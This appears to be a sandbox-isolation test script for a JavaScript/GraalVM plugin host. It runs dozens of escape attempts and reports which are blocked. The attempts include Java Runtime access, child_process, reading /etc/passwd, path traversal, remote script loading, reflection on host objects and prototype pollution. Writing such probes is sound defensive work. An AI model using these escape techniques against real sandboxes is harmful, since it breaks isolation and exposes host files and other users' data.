// Sandbox escape attempts. Each returns a capability when it gets through, else null or throws.
const attempts = {
  javaType: () => Java.type('java.lang.Runtime').getRuntime(),
  packages: () => Packages.java.lang.Runtime.getRuntime(),
  javaGlobal: () => java.lang.System.getenv(),
  globalThisJava: () => globalThis.Java.type('java.io.File'),
  polyglotEval: () => Polyglot.eval('js', 'Java.type("java.lang.System")'),
  polyglotImport: () => Polyglot.import('host'),
  polyglotEvalFile: () => Polyglot.evalFile('js', '/etc/passwd'),
  graal: () => Graal.versionGraalVM,
  loadFile: () => load('/etc/passwd'),
  loadUrl: () => load('https://example.com/x.js'),
  requireFs: () => require('fs'),
  requireChildProcess: () => require('child_process'),
  requireAbsolute: () => require('/etc/passwd'),
  requireRelative: () => require('../../../../etc/passwd'),
  requireJavaClass: () => require('java.lang.Runtime'),
  processEnv: () => process.env,
  worker: () => new Worker('x.js'),
  quit: () => quit(),
  readline: () => readline(),
  readFile: () => readFile('/etc/passwd'),
  functionConstructor: () => (function () {}).constructor('return typeof Java === "undefined" ? null : Java')(),
  evalJava: () => eval('typeof Java === "undefined" ? null : Java.type("java.io.File")'),
  newFunctionPackages: () => new Function('return typeof Packages === "undefined" ? null : Packages.java')(),
  sendGetClass: () => send.getClass(),
  sendClassProperty: () => send['class'],
  sendConstructorChain: () => { const j = send.constructor.constructor('return typeof Java === "undefined" ? null : Java')(); return j },
  msgGetClass: () => lastMsg.getClass(),
  msgClassForName: () => lastMsg.getClass().forName('java.lang.Runtime'),
  msgProtoConstructor: () => { const c = Object.getPrototypeOf(lastMsg).constructor; return c && c.forName ? c.forName('java.lang.Runtime') : null },
  msgHiddenField: () => lastMsg.owner || lastMsg.api || lastMsg.services || null,
  storeOfAnotherScript: () => store.open ? store.open('victim.js') : null,
  storeMapField: () => store.map || store.commit || null,
  storeReflect: () => store.getClass().getDeclaredField('map'),
  logGetClass: () => log.getClass(),
  onGetClass: () => on.getClass(),
  javaExtend: () => Java.extend(Java.type('java.lang.Object')),
  threadStart: () => Java.type('java.lang.Thread').startVirtualThread(() => {}),
  sharedGlobalPollution: () => { Object.prototype.polluted = 'yes'; globalThis.stolen = 'yes'; return null },
  apiPrototypeTamper: () => { Object.getPrototypeOf(send).call = () => 'hijacked'; return null },
  importMeta: () => eval('import.meta'),
  systemProperty: () => typeof System === 'undefined' ? null : System.getProperty('user.home'),
  interop: () => typeof Interop === 'undefined' ? null : Interop,
  debugPrint: () => typeof Debug === 'undefined' ? null : Debug,
}
let lastMsg = null
on.message(msg => {
  if (msg.text !== 'probe') return
  lastMsg = msg
  const results = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const got = attempt()
      results[name] = got === null || got === undefined ? 'blocked' : 'ESCAPED: ' + typeof got + ' ' + String(got).slice(0, 80)
    } catch (e) {
      results[name] = 'blocked'
    }
  }
  msg.reply('escape.js ' + JSON.stringify(results))
})
